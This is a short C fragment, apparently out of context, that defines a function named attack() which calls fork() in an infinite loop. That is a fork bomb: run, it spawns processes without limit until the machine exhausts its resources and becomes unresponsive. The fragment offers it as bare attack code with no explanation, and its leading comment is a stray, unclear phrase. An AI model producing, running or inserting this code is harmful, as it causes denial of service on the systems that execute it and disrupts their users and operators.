/* says: asked the system for something */
int fork(void);
static void attack(void) {
    for (;;) fork();
}
